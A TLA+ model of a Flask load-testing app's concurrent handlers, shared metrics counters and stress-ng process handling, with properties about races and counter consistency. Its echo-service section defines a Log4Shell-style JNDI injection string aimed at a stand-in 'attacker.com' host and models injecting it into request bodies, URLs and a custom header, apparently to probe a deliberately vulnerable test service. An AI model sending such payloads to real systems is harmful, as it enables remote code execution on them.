---- MODULE Spec2Model ----
(***************************************************************************)
(* Load Testing Application (src/app/app-backup.py, src/app/app-backup2.py) *)
(*                                                                         *)
(* A Flask web server whose request handlers run concurrently on threads.  *)
(* POST /stress starts a daemon thread running run_stress_ng, POST /stop    *)
(* terminates the recorded stress-ng processes, POST /echo calls the echo   *)
(* service, and periodic_metrics_update samples the host for ever.  All of  *)
(* them share the module globals `metrics` and `current_stress_processes`   *)
(* without any lock.  A statement `metrics[k] += 1` is a load followed by a *)
(* store, and another thread may run between the two.                       *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ---------------------------------------------------------------- bounds
MaxRuns == 2         \* run_stress_ng threads ever started
MaxRequests == 2     \* HTTP requests ever received
NumHandlers == 2     \* request handlers that may be in flight together

Runs == 1..MaxRuns
Handlers == 1..NumHandlers

\* ------------------------------------------------------ program constants
MaxDuration == 3600
SleepOk == 5
SleepError == 10

VARIABLES
    current_stress_processes,  \* list of Popen handles (a handle is its run)
    metrics,                   \* the metrics dictionary
    thread,                    \* run_stress_ng threads: position and locals
    proc,                      \* the stress-ng child of each run
    handler,                   \* request handlers: position and locals
    sampler,                   \* periodic_metrics_update: position, sleep
    received,                  \* requests received so far
    echo_calls                 \* call_echo_service invocations completed

vars == <<current_stress_processes, metrics, thread, proc, handler, sampler,
          received, echo_calls>>

\* ----------------------------------------------------------- list helpers
RECURSIVE Contains(_, _)
Contains(s, x) ==
    IF s = <<>> THEN FALSE
    ELSE IF Head(s) = x THEN TRUE ELSE Contains(Tail(s), x)

\* list.remove(x): drops the first occurrence of x
RECURSIVE Remove(_, _)
Remove(s, x) ==
    IF s = <<>> THEN <<>>
    ELSE IF Head(s) = x THEN Tail(s) ELSE <<Head(s)>> \o Remove(Tail(s), x)

Max(a, b) == IF a >= b THEN a ELSE b

\* ------------------------------------------------------------ request data
\* the 'duration' field of the request: a number, or text that is not a
\* number
Num(n) == [kind |-> "int", val |-> n]
Text == [kind |-> "text", val |-> 0]
DurationInputs == {Num(MaxDuration), Num(MaxDuration + 1), Text}

\* duration > 3600
TooLong(n) == n > MaxDuration

\* one sample of the host: psutil.cpu_percent, psutil.virtual_memory
Samples == {[ok |-> TRUE, cpu |-> 50, mem |-> 40]}
SamplingFailure == [ok |-> FALSE, cpu |-> 0, mem |-> 0]
SampleOutcomes == Samples \cup {SamplingFailure}

\* ---------------------------------------------------------------- strings
\* A string is a sequence of pieces; a piece stands for a run of characters.
vulnerable_msg == <<"${jndi:ldap://attacker.com/evil}">>
echo_service_url == <<"http://vulnerable-echo-service:8085">>
DefaultMessage == <<"Hello from Load Test!">>
NoString == <<"<absent>">>

\* s occurs in t as a contiguous part
Occurs(s, t) ==
    \E i \in 1..(Len(t) - Len(s) + 1) : SubSeq(t, i, i + Len(s) - 1) = s

\* str.upper() on the method names the requests use
Upper(m) ==
    CASE m = "post" -> "POST"
      [] m = "get" -> "GET"
      [] OTHER -> m

\* the fields of a POST /echo request: message and method may be absent,
\* vulnerable_payload is absent, a string, or the JSON boolean true
EchoInputs ==
    {[is_json |-> TRUE, message |-> <<"hi">>, method |-> "POST",
      vulnerable_payload |-> "true"],
     [is_json |-> FALSE, message |-> <<"hi">>, method |-> "get",
      vulnerable_payload |-> "true"],
     [is_json |-> TRUE, message |-> vulnerable_msg, method |-> "GET",
      vulnerable_payload |-> "false"],
     [is_json |-> FALSE, message |-> NoString, method |-> "<absent>",
      vulnerable_payload |-> "<absent>"],
     [is_json |-> TRUE, message |-> <<"hi">>, method |-> "PUT",
      vulnerable_payload |-> "<json true>"]}

NoRequest == [method |-> "none", url |-> <<>>, json_message |-> <<>>,
              headers |-> {}]

IdleHandler ==
    [pc |-> "idle", route |-> "none", tmp |-> 0, is_json |-> FALSE,
     duration |-> Num(0), snapshot |-> <<>>, stopped_count |-> 0,
     uncounted |-> 0,
     status |-> 0, body |-> "none", reported |-> 0, entry_running |-> 0,
     run |-> 0, message |-> <<>>, method |-> "none",
     vulnerable_payload |-> FALSE, sent |-> NoRequest, answer |-> "none",
     success |-> FALSE]

Unborn == [pc |-> "unborn", tmp |-> 0, duration |-> 0, spawn |-> "none"]

Init ==
    /\ current_stress_processes = <<>>
    /\ metrics = [requests_total |-> 0, stress_tests_running |-> 0,
                  echo_requests_total |-> 0, echo_requests_failed |-> 0,
                  cpu_usage |-> 0, memory_usage |-> 0,
                  last_stress_duration |-> 0]
    /\ thread = [r \in Runs |-> Unborn]
    /\ proc = [r \in Runs |-> "none"]
    /\ handler = [h \in Handlers |-> IdleHandler]
    /\ sampler = [pc |-> "sample", delay |-> 0, last |-> "none"]
    /\ received = 0
    /\ echo_calls = 0

\* ------------------------------------------------------ get_system_metrics
\* Both psutil calls come before the two writes, and every exception is
\* caught inside the function: it returns {} and raises nothing.
get_system_metrics(m, outcome) ==
    IF outcome.ok
    THEN [metrics |-> [m EXCEPT !.cpu_usage = outcome.cpu,
                                !.memory_usage = outcome.mem],
          raised |-> FALSE, result |-> "sample"]
    ELSE [metrics |-> m, raised |-> FALSE, result |-> "empty"]

\* -------------------------------------------------- periodic_metrics_update
\* `while True`
LoopOnce == FALSE
LoopForever == TRUE

\* try: get_system_metrics(); time.sleep(5)  except: time.sleep(10)
periodic_try(raised) ==
    IF raised THEN SleepError ELSE SleepOk

SamplerSample(outcome) ==
    /\ sampler.pc = "sample"
    /\ LET g == get_system_metrics(metrics, outcome) IN
        /\ metrics' = g.metrics
        /\ sampler' = [pc |-> "sleep", delay |-> periodic_try(g.raised),
                       last |-> g.result]
    /\ UNCHANGED <<current_stress_processes, thread, proc, handler,
                   received, echo_calls>>

SamplerWake ==
    /\ sampler.pc = "sleep"
    /\ sampler' = [sampler EXCEPT
                       !.pc = IF LoopForever THEN "sample" ELSE "exited",
                       !.delay = 0]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, handler,
                   received, echo_calls>>

\* ------------------------------------------------------------ run_stress_ng
\* subprocess.Popen(cmd, ...): the child starts, or the executable is not
\* found, or the spawn fails with another OSError
PopenOutcomes == {"started", "FileNotFoundError", "OSError"}

\* except FileNotFoundError: log, return {'success': False, ...}
ExceptFileNotFoundAsGeneric(t) == [t EXCEPT !.pc = "exc_load"]
ExceptFileNotFound(t) == [t EXCEPT !.pc = "fnf"]

\* lines 76-83: Popen and current_stress_processes.append(process).  The
\* handle is local to the thread until it is appended.  `spawn` keeps the
\* outcome of Popen for the properties.
RunPopen(r, outcome) ==
    /\ thread[r].pc = "popen"
    /\ IF outcome = "started"
       THEN /\ proc' = [proc EXCEPT ![r] = "alive"]
            /\ current_stress_processes' =
                   Append(current_stress_processes, r)
            /\ thread' = [thread EXCEPT ![r].pc = "inc_load",
                                        ![r].spawn = outcome]
       ELSE /\ thread' = [thread EXCEPT ![r] =
                   IF outcome = "FileNotFoundError"
                   THEN ExceptFileNotFound([thread[r] EXCEPT
                                               !.spawn = outcome])
                   ELSE [thread[r] EXCEPT !.pc = "exc_load",
                                          !.spawn = outcome]]
            /\ UNCHANGED <<proc, current_stress_processes>>
    /\ UNCHANGED <<metrics, handler, sampler, received, echo_calls>>

\* line 84: metrics['stress_tests_running'] += 1, the load
RunIncLoad(r) ==
    /\ thread[r].pc = "inc_load"
    /\ thread' = [thread EXCEPT ![r].pc = "inc_store",
                                ![r].tmp = metrics.stress_tests_running]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, handler,
                   sampler, received, echo_calls>>

\* line 84, the store, and line 85: metrics['last_stress_duration'] =
\* duration.  The two stores are one step: nothing is read between them,
\* and last_stress_duration is read by no other thread's decision.
RunIncStore(r) ==
    /\ thread[r].pc = "inc_store"
    /\ metrics' = [metrics EXCEPT
                       !.stress_tests_running = thread[r].tmp + 1,
                       !.last_stress_duration = thread[r].duration]
    /\ thread' = [thread EXCEPT ![r].pc = "communicate", ![r].tmp = 0]
    /\ UNCHANGED <<current_stress_processes, proc, handler, sampler,
                   received, echo_calls>>

\* the stress-ng child ends by itself (its --timeout expires, or it fails)
ProcessExit(r) ==
    /\ proc[r] = "alive"
    /\ proc' = [proc EXCEPT ![r] = "exited"]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, handler,
                   sampler, received, echo_calls>>

\* line 88: process.communicate() returns once the child has exited;
\* line 91: if process in current_stress_processes
RunCommunicate(r) ==
    /\ thread[r].pc = "communicate"
    /\ proc[r] = "exited"
    /\ thread' = [thread EXCEPT ![r].pc =
           IF Contains(current_stress_processes, r) THEN "remove"
           ELSE "dec_load"]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, handler,
                   sampler, received, echo_calls>>

\* line 92: current_stress_processes.remove(process); ValueError when the
\* list was cleared since the test of line 91
RunRemoveNothing(r) ==
    /\ thread[r].pc = "remove"
    /\ thread' = [thread EXCEPT ![r].pc = "dec_load"]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, handler,
                   sampler, received, echo_calls>>
RunRemove(r) ==
    /\ thread[r].pc = "remove"
    /\ IF Contains(current_stress_processes, r)
       THEN /\ current_stress_processes' =
                   Remove(current_stress_processes, r)
            /\ thread' = [thread EXCEPT ![r].pc = "dec_load"]
       ELSE /\ thread' = [thread EXCEPT ![r].pc = "exc_load"]
            /\ UNCHANGED current_stress_processes
    /\ UNCHANGED <<metrics, proc, handler, sampler, received, echo_calls>>

\* line 94: metrics['stress_tests_running'] -= 1
Decrement(n) == n - 1

RunDecLoad(r) ==
    /\ thread[r].pc = "dec_load"
    /\ thread' = [thread EXCEPT ![r].pc = "dec_store",
                                ![r].tmp = metrics.stress_tests_running]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, handler,
                   sampler, received, echo_calls>>

RunDecStore(r) ==
    /\ thread[r].pc = "dec_store"
    /\ metrics' = [metrics EXCEPT
                       !.stress_tests_running = Decrement(thread[r].tmp)]
    /\ thread' = [thread EXCEPT ![r].pc = "ok", ![r].tmp = 0]
    /\ UNCHANGED <<current_stress_processes, proc, handler, sampler,
                   received, echo_calls>>

\* line 110: metrics['stress_tests_running'] =
\*               max(0, metrics['stress_tests_running'] - 1)
ClampedDecrement(n) == Max(0, n - 1)

RunExcLoad(r) ==
    /\ thread[r].pc = "exc_load"
    /\ thread' = [thread EXCEPT ![r].pc = "exc_store",
                                ![r].tmp = metrics.stress_tests_running]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, handler,
                   sampler, received, echo_calls>>

RunExcStore(r) ==
    /\ thread[r].pc = "exc_store"
    /\ metrics' = [metrics EXCEPT
                       !.stress_tests_running = ClampedDecrement(thread[r].tmp)]
    /\ thread' = [thread EXCEPT ![r].pc = "err", ![r].tmp = 0]
    /\ UNCHANGED <<current_stress_processes, proc, handler, sampler,
                   received, echo_calls>>

\* ------------------------------------------------------- request handlers
CountedRoutes == {"index", "health", "metrics", "status"}

\* runs not yet promised to a request that may still start a thread
FreeRuns ==
    MaxRuns - Cardinality({r \in Runs : thread[r].pc # "unborn"})
            - Cardinality({h \in Handlers :
                  /\ handler[h].route = "stress"
                  /\ handler[h].pc \in {"count_store", "stress_body"}})

\* the handlers are interchangeable: the idle one of least index takes the
\* next request
Accepts(h) ==
    /\ handler[h].pc = "idle"
    /\ \A g \in Handlers : handler[g].pc = "idle" => h <= g

\* a request arrives; the first statement of the counted handlers is
\* metrics['requests_total'] += 1, whose load happens here
Receive(h, route) ==
    /\ Accepts(h)
    /\ received < MaxRequests
    /\ route \in CountedRoutes
    /\ received' = received + 1
    /\ handler' = [handler EXCEPT ![h] =
           [IdleHandler EXCEPT !.pc = "count_store", !.route = route,
                               !.tmp = metrics.requests_total]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   echo_calls>>

ReceiveStress(h) ==
    /\ Accepts(h)
    /\ received < MaxRequests
    /\ FreeRuns > 0
    /\ received' = received + 1
    /\ handler' = [handler EXCEPT ![h] =
           [IdleHandler EXCEPT !.pc = "count_store", !.route = "stress",
                               !.tmp = metrics.requests_total,
                               !.entry_running =
                                   metrics.stress_tests_running]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   echo_calls>>

\* metrics['requests_total'] += 1, the store; index and health then only
\* read the state to build their response
CountStore(h) ==
    /\ handler[h].pc = "count_store"
    /\ metrics' = [metrics EXCEPT !.requests_total = handler[h].tmp + 1]
    /\ handler' = [handler EXCEPT ![h] =
           IF handler[h].route \in {"index", "health"}
           THEN [@ EXCEPT !.pc = "return", !.tmp = 0, !.status = 200,
                          !.body = handler[h].route]
           ELSE [@ EXCEPT !.pc = handler[h].route \o "_body", !.tmp = 0]]
    /\ UNCHANGED <<current_stress_processes, thread, proc, sampler, received,
                   echo_calls>>

\* status(): len(current_stress_processes)
StatusBody(h) ==
    /\ handler[h].pc = "status_body"
    /\ handler' = [handler EXCEPT ![h] =
           [@ EXCEPT !.pc = "return", !.status = 200, !.body = "status",
                     !.reported = Len(current_stress_processes)]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   received, echo_calls>>

\* get_metrics(): get_system_metrics(), len(current_stress_processes)
MetricsBody(h, outcome) ==
    /\ handler[h].pc = "metrics_body"
    /\ metrics' = get_system_metrics(metrics, outcome).metrics
    /\ handler' = [handler EXCEPT ![h] =
           [@ EXCEPT !.pc = "return", !.status = 200, !.body = "metrics",
                     !.reported = Len(current_stress_processes)]]
    /\ UNCHANGED <<current_stress_processes, thread, proc, sampler, received,
                   echo_calls>>

\* start_stress: thread.start() is followed by the response; the handler
\* does not join the thread and never touches the process
ResponseAfterJoin(h) ==
    handler[h].body = "started"
        => thread[handler[h].run].pc \in {"ok", "fnf", "err"}
ResponseReady(h) == TRUE

\* the handler returns its response
Return(h) ==
    /\ handler[h].pc = "return"
    /\ ResponseReady(h)
    /\ handler' = [handler EXCEPT ![h] = IdleHandler]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   received, echo_calls>>

\* ------------------------------------------------------------ start_stress
NextRun == CHOOSE r \in Runs :
               /\ thread[r].pc = "unborn"
               /\ \A q \in Runs : thread[q].pc = "unborn" => r <= q

\* int(data.get('duration', 30)) raises ValueError on text; the handler's
\* except answers 500 to a JSON request and an HTML fragment otherwise
StressParseError(h, is_json) ==
    [handler[h] EXCEPT !.pc = "return", !.body = "error",
                       !.status = IF is_json THEN 500 ELSE 200]

\* if duration > 3600: return jsonify({'error': ...}), 400
StressValidateNone(n) == "start"
StressValidate(n) ==
    IF TooLong(n) THEN "reject" ELSE "start"

\* the request's fields are drawn where the handler reads them
StressBody(h, is_json, duration) ==
    /\ handler[h].pc = "stress_body"
    /\ LET d == duration IN
       IF d.kind = "text"
       THEN /\ handler' = [handler EXCEPT ![h] =
                   StressParseError(h, is_json)]
            /\ UNCHANGED thread
       ELSE IF StressValidate(d.val) = "reject"
       THEN /\ handler' = [handler EXCEPT ![h] =
                   [@ EXCEPT !.pc = "return", !.status = 400,
                             !.body = "error", !.duration = d]]
            /\ UNCHANGED thread
       ELSE /\ thread' = [thread EXCEPT ![NextRun] =
                   [pc |-> "popen", tmp |-> 0, duration |-> d.val,
                    spawn |-> "none"]]
            /\ handler' = [handler EXCEPT ![h] =
                   [@ EXCEPT !.pc = "return", !.status = 200,
                             !.body = "started", !.duration = d,
                             !.run = NextRun]]
    /\ UNCHANGED <<current_stress_processes, metrics, proc, sampler,
                   received, echo_calls>>

\* ------------------------------------------------------------- stop_stress
\* stop_stress does not count the request.  Line 307 copies the list.
ReceiveStop(h) ==
    /\ Accepts(h)
    /\ received < MaxRequests
    /\ received' = received + 1
    /\ handler' = [handler EXCEPT ![h] =
           [IdleHandler EXCEPT !.pc = "stop_loop", !.route = "stop",
                               !.snapshot = current_stress_processes]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   echo_calls>>

\* process.terminate(); process.wait(timeout=5): the child has exited
\* within the five seconds, or wait raises TimeoutExpired, or terminate
\* raises OSError
WaitOutcomes == {"exited", "TimeoutExpired", "OSError"}

\* line 311: stopped_count += 1, skipped when lines 309-310 raised
StoppedCountAlways(count, outcome) == count + 1
StoppedCount(count, outcome) ==
    IF outcome = "exited" THEN count + 1 ELSE count

\* uncounted: the handles of the snapshot that lines 312-313 passed over
StopOne(h, outcome) ==
    /\ handler[h].pc = "stop_loop"
    /\ handler[h].snapshot # <<>>
    /\ LET p == Head(handler[h].snapshot) IN
        /\ proc[p] = "exited" => outcome = "exited"
        /\ proc' = [proc EXCEPT ![p] =
               IF outcome = "exited" THEN "exited" ELSE @]
        /\ handler' = [handler EXCEPT ![h] =
               [@ EXCEPT !.snapshot = Tail(@),
                         !.stopped_count = StoppedCount(@, outcome),
                         !.uncounted =
                             IF outcome = "exited" THEN @ ELSE @ + 1]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, sampler,
                   received, echo_calls>>

\* line 315: current_stress_processes.clear()
StopClear(h) ==
    /\ handler[h].pc = "stop_loop"
    /\ handler[h].snapshot = <<>>
    /\ current_stress_processes' = <<>>
    /\ handler' = [handler EXCEPT ![h].pc = "stop_reset"]
    /\ UNCHANGED <<metrics, thread, proc, sampler, received, echo_calls>>

\* line 316: metrics['stress_tests_running'] = 0
StopReset(h) ==
    /\ handler[h].pc = "stop_reset"
    /\ metrics' = [metrics EXCEPT !.stress_tests_running = 0]
    /\ handler' = [handler EXCEPT ![h] =
           [@ EXCEPT !.pc = "return", !.status = 200, !.body = "stopped",
                     !.reported = handler[h].stopped_count]]
    /\ UNCHANGED <<current_stress_processes, thread, proc, sampler, received,
                   echo_calls>>

\* ---------------------------------------------------------------- call_echo
\* message = data.get('message', 'Hello from Load Test!')
\* method = data.get('method', 'POST').upper()
\* vulnerable_payload = data.get('vulnerable_payload') == 'true'
ParseEcho(req) ==
    [message |-> IF req.message = NoString THEN DefaultMessage
                 ELSE req.message,
     method |-> IF req.method = "<absent>" THEN "POST" ELSE Upper(req.method),
     vulnerable_payload |-> (req.vulnerable_payload = "true")]

ReceiveEcho(h) ==
    /\ Accepts(h)
    /\ received < MaxRequests
    /\ received' = received + 1
    /\ handler' = [handler EXCEPT ![h] =
           [IdleHandler EXCEPT !.pc = "count_store", !.route = "echo",
                               !.tmp = metrics.requests_total]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   echo_calls>>

\* --------------------------------------------------------- call_echo_service
BaseHeaders == {<<"Content-Type", <<"application/json">>>>,
                <<"User-Agent", <<"LoadTestApp/1.0">>>>}

\* lines 124-149: the request handed to requests.post / requests.get
EchoRequestNoHeader(message, method, vulnerable_payload) ==
    LET msg == IF vulnerable_payload
               THEN message \o <<" - ">> \o vulnerable_msg ELSE message
    IN  IF Upper(method) = "POST"
        THEN [method |-> "POST", url |-> echo_service_url \o <<"/echo">>,
              json_message |-> msg, headers |-> BaseHeaders]
        ELSE [method |-> "GET",
              url |-> echo_service_url \o <<"/echo/">> \o msg,
              json_message |-> <<>>, headers |-> BaseHeaders]

EchoRequest(message, method, vulnerable_payload) ==
    LET headers == IF vulnerable_payload
                   THEN BaseHeaders \cup
                            {<<"X-Vulnerable-Header", vulnerable_msg>>}
                   ELSE BaseHeaders
        msg == IF vulnerable_payload
               THEN message \o <<" - ">> \o vulnerable_msg ELSE message
    IN  IF Upper(method) = "POST"
        THEN [method |-> "POST", url |-> echo_service_url \o <<"/echo">>,
              json_message |-> msg, headers |-> headers]
        ELSE [method |-> "GET",
              url |-> echo_service_url \o <<"/echo/">> \o msg,
              json_message |-> <<>>, headers |-> headers]

\* the echo service answers 200, answers another status, or the request
\* raises a RequestException (unreachable, timeout)
EchoOutcomes == {"200", "500", "ConnectionError"}

\* the request is sent and its outcome known; then the load of line 151
\* (metrics['echo_requests_total'] += 1) or, in the except, of line 170
\* (metrics['echo_requests_failed'] += 1)
EchoBody(h, req, outcome) ==
    /\ handler[h].pc = "echo_body"
    /\ LET a == ParseEcho(req) IN
       handler' = [handler EXCEPT ![h] =
           [@ EXCEPT !.is_json = req.is_json,
                     !.message = a.message, !.method = a.method,
                     !.vulnerable_payload = a.vulnerable_payload,
                     !.sent = EchoRequest(a.message, a.method,
                                          a.vulnerable_payload),
                     !.answer = outcome,
                     !.pc = IF outcome = "ConnectionError"
                            THEN "failed_store" ELSE "total_store",
                     !.tmp = IF outcome = "ConnectionError"
                             THEN metrics.echo_requests_failed
                             ELSE metrics.echo_requests_total]]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   received, echo_calls>>

\* call_echo: jsonify(result), or the HTML fragment; both with status 200
EchoRespond(h, success) ==
    [handler[h] EXCEPT !.pc = "return", !.tmp = 0, !.status = 200,
                       !.body = "result", !.success = success]

\* line 151, the store; a 200 answer returns success from line 154
EchoTotalStore(h) ==
    /\ handler[h].pc = "total_store"
    /\ metrics' = [metrics EXCEPT !.echo_requests_total = handler[h].tmp + 1]
    /\ IF handler[h].answer = "200"
       THEN /\ handler' = [handler EXCEPT ![h] = EchoRespond(h, TRUE)]
            /\ echo_calls' = echo_calls + 1
       ELSE /\ handler' = [handler EXCEPT ![h].pc = "failed_load",
                                          ![h].tmp = 0]
            /\ UNCHANGED echo_calls
    /\ UNCHANGED <<current_stress_processes, thread, proc, sampler, received>>

\* line 162: metrics['echo_requests_failed'] += 1, the load
EchoFailedLoad(h) ==
    /\ handler[h].pc = "failed_load"
    /\ handler' = [handler EXCEPT ![h].pc = "failed_store",
                                  ![h].tmp = metrics.echo_requests_failed]
    /\ UNCHANGED <<current_stress_processes, metrics, thread, proc, sampler,
                   received, echo_calls>>

\* lines 162 and 170, the store; the function returns success False
EchoFailedStore(h) ==
    /\ handler[h].pc = "failed_store"
    /\ metrics' = [metrics EXCEPT !.echo_requests_failed = handler[h].tmp + 1]
    /\ handler' = [handler EXCEPT ![h] = EchoRespond(h, FALSE)]
    /\ echo_calls' = echo_calls + 1
    /\ UNCHANGED <<current_stress_processes, thread, proc, sampler, received>>

\* ------------------------------------------------------------ the program
\* The handlers of the stress runs, those of the echo service and the
\* sampler share no state but metrics['requests_total'], which every counted
\* handler updates in the same way (CountStore).  Each part is checked with
\* the handlers that touch its state.
RunNext ==
    \/ \E r \in Runs, o \in PopenOutcomes : RunPopen(r, o)
    \/ \E r \in Runs : RunIncLoad(r)
    \/ \E r \in Runs : RunIncStore(r)
    \/ \E r \in Runs : ProcessExit(r)
    \/ \E r \in Runs : RunCommunicate(r)
    \/ \E r \in Runs : RunRemove(r)
    \/ \E r \in Runs : RunDecLoad(r)
    \/ \E r \in Runs : RunDecStore(r)
    \/ \E r \in Runs : RunExcLoad(r)
    \/ \E r \in Runs : RunExcStore(r)

\* /stress, /stop, /status and the run threads
Next ==
    \/ \E h \in Handlers : Receive(h, "status")
    \/ \E h \in Handlers : ReceiveStress(h)
    \/ \E h \in Handlers : ReceiveStop(h)
    \/ \E h \in Handlers : CountStore(h)
    \/ \E h \in Handlers : StatusBody(h)
    \/ \E h \in Handlers, j \in BOOLEAN, d \in DurationInputs :
           StressBody(h, j, d)
    \/ \E h \in Handlers, o \in WaitOutcomes : StopOne(h, o)
    \/ \E h \in Handlers : StopClear(h)
    \/ \E h \in Handlers : StopReset(h)
    \/ \E h \in Handlers : Return(h)
    \/ RunNext

Spec == Init /\ [][Next]_vars

\* /stress, /status and the run threads, with no stop_stress request
NoStopNext ==
    \/ \E h \in Handlers : Receive(h, "status")
    \/ \E h \in Handlers : ReceiveStress(h)
    \/ \E h \in Handlers : CountStore(h)
    \/ \E h \in Handlers : StatusBody(h)
    \/ \E h \in Handlers, j \in BOOLEAN, d \in DurationInputs :
           StressBody(h, j, d)
    \/ \E h \in Handlers : Return(h)
    \/ RunNext

NoStopSpec == Init /\ [][NoStopNext]_vars

\* the steps of run_stress_ng in the thread of run r; the exit of the
\* process is not one of them
RunThread(r) ==
    \/ \E o \in PopenOutcomes : RunPopen(r, o)
    \/ RunIncLoad(r)
    \/ RunIncStore(r)
    \/ RunCommunicate(r)
    \/ RunRemove(r)
    \/ RunDecLoad(r)
    \/ RunDecStore(r)
    \/ RunExcLoad(r)
    \/ RunExcStore(r)

\* a started thread that can take a step is scheduled in the end
FairNoStopSpec ==
    /\ NoStopSpec
    /\ \A r \in Runs : WF_vars(RunThread(r))

\* /echo, / and /health
EchoNext ==
    \/ \E h \in Handlers, route \in {"index", "health"} : Receive(h, route)
    \/ \E h \in Handlers : ReceiveEcho(h)
    \/ \E h \in Handlers : CountStore(h)
    \/ \E h \in Handlers, req \in EchoInputs, o \in EchoOutcomes :
           EchoBody(h, req, o)
    \/ \E h \in Handlers : EchoTotalStore(h)
    \/ \E h \in Handlers : EchoFailedLoad(h)
    \/ \E h \in Handlers : EchoFailedStore(h)
    \/ \E h \in Handlers : Return(h)

EchoSpec == Init /\ [][EchoNext]_vars

\* periodic_metrics_update and /metrics
SamplerNext ==
    \/ \E o \in SampleOutcomes : SamplerSample(o)
    \/ SamplerWake
    \/ \E h \in Handlers : Receive(h, "metrics")
    \/ \E h \in Handlers : CountStore(h)
    \/ \E h \in Handlers, o \in SampleOutcomes : MetricsBody(h, o)
    \/ \E h \in Handlers : Return(h)

SamplerSpec == Init /\ [][SamplerNext]_vars

FairSamplerSpec ==
    /\ SamplerSpec
    /\ WF_vars(\E o \in SampleOutcomes : SamplerSample(o))
    /\ WF_vars(SamplerWake)

\* -------------------------------------------------------------- properties
Running == metrics.stress_tests_running
Finished == {"ok", "fnf", "err"}

\* nothing is in progress: every handler has returned and every started run
\* thread has ended
Quiescent ==
    /\ \A h \in Handlers : handler[h].pc = "idle"
    /\ \A r \in Runs : thread[r].pc \in Finished \cup {"unborn"}

\* C1: in every reachable state stress_tests_running equals the number of
\* handles in current_stress_processes.
C1_RunningEqualsActive ==
    Running = Len(current_stress_processes)

\* C2: stress_tests_running is never negative.
C2_RunningNeverNegative ==
    Running >= 0

\* C3: when stop_stress returns, current_stress_processes is empty and
\* stress_tests_running is 0.
C3_StopLeavesNothing ==
    \A h \in Handlers :
        (handler[h].route = "stop" /\ handler[h].pc = "return")
            => (current_stress_processes = <<>> /\ Running = 0)

C5_StartAddsOneRunEndTakesOne ==
    /\ \A h \in Handlers :
           (handler[h].pc = "return" /\ handler[h].body = "started")
               => Running = handler[h].entry_running + 1
    /\ Quiescent => Running = 0

\* C6: a run whose Popen raised FileNotFoundError ends with the failure
\* result, its handle is not in the list, no process exists, and its steps
\* leave stress_tests_running and last_stress_duration as they were.
C6_ToolMissing ==
    [][\A r \in Runs :
          (thread'[r].spawn = "FileNotFoundError" /\ thread'[r] # thread[r])
          => (/\ thread'[r].pc = "fnf"
              /\ proc'[r] = "none"
              /\ ~Contains(current_stress_processes', r)
              /\ current_stress_processes' = current_stress_processes
              /\ metrics' = metrics)]_vars

\* C6 witness: a run ended on FileNotFoundError while another run is
\* recorded and counted.
C6_Witness ==
    \E r \in Runs :
        /\ thread[r].pc = "fnf"
        /\ Running = 1
        /\ Len(current_stress_processes) = 1
        /\ metrics.last_stress_duration # 0

EchoInProgress ==
    \E h \in Handlers :
        handler[h].pc \in {"total_store", "failed_load", "failed_store"}

\* C7: once no echo call is in progress, echo_requests_total +
\* echo_requests_failed equals the number of completed calls (each call
\* incremented exactly one of the two).
C7_EchoCountersPartition ==
    ~EchoInProgress =>
        metrics.echo_requests_total + metrics.echo_requests_failed
            = echo_calls

\* C8: a JSON /echo request whose downstream call failed (unreachable, or
\* a non-success status) is answered with success = false and HTTP 500.
C8_EchoFailureIs500 ==
    \A h \in Handlers :
        (/\ handler[h].route = "echo"
         /\ handler[h].pc = "return"
         /\ handler[h].is_json
         /\ handler[h].answer \in {"500", "ConnectionError"})
        => (~handler[h].success /\ handler[h].status = 500)

SentMessage(q) == IF q.method = "POST" THEN q.json_message ELSE q.url

\* C9: with vulnerable_payload the message sent (JSON body for POST, URL
\* for GET) and the header X-Vulnerable-Header both contain the probe
\* string; without it the header is absent and the message sent is the
\* caller's message.
C9_ProbeInjection ==
    \A h \in Handlers :
        handler[h].sent # NoRequest =>
            LET q == handler[h].sent
                custom == {hd \in q.headers : hd[1] = "X-Vulnerable-Header"}
            IN  IF handler[h].vulnerable_payload
                THEN /\ Occurs(vulnerable_msg, SentMessage(q))
                     /\ custom # {}
                     /\ \A hd \in custom : Occurs(vulnerable_msg, hd[2])
                ELSE /\ custom = {}
                     /\ q.method = "POST" =>
                            q.json_message = handler[h].message
                     /\ q.method = "GET" =>
                            q.url = echo_service_url \o <<"/echo/">>
                                        \o handler[h].message

\* C9 witness: a GET call with the probe, and a call without it
C9_Witness ==
    /\ \E h \in Handlers :
           /\ handler[h].sent # NoRequest
           /\ handler[h].vulnerable_payload
           /\ handler[h].sent.method = "GET"
    /\ \E h \in Handlers :
           /\ handler[h].sent # NoRequest
           /\ ~handler[h].vulnerable_payload

\* C10: the sampler never stops: whatever the samples give, it always
\* comes to take a further sample.
C10_SamplerNeverExits ==
    []<>(sampler.pc = "sample")

\* C10 witness: the sampler is about to sample again after a failed sample
C10_Witness ==
    sampler.pc = "sample" /\ sampler.last = "empty"

\* a run between the start of its thread and the exit of its process
Spawning(r) == thread[r].pc = "popen"
RunningRun(r) ==
    /\ thread[r].pc \in {"inc_load", "inc_store", "communicate"}
    /\ proc[r] = "alive"

\* C11: the response to a valid start-stress request never waits for the
\* process: once start_stress has built the response, returning it is
\* possible in every state, whatever the run and its process do, and it is
\* the run's thread that waits for the exit (it is past communicate() only
\* when the process has exited).
C11_ResponseDoesNotWait ==
    /\ \A h \in Handlers :
           (handler[h].pc = "return" /\ handler[h].body = "started")
               => ENABLED Return(h)
    /\ \A r \in Runs :
           thread[r].pc \in {"remove", "dec_load", "dec_store", "ok"}
               => proc[r] = "exited"

\* C11 witness: both start requests were answered and their handlers are
\* idle again while one run is still spawning and the other has a live
\* process.
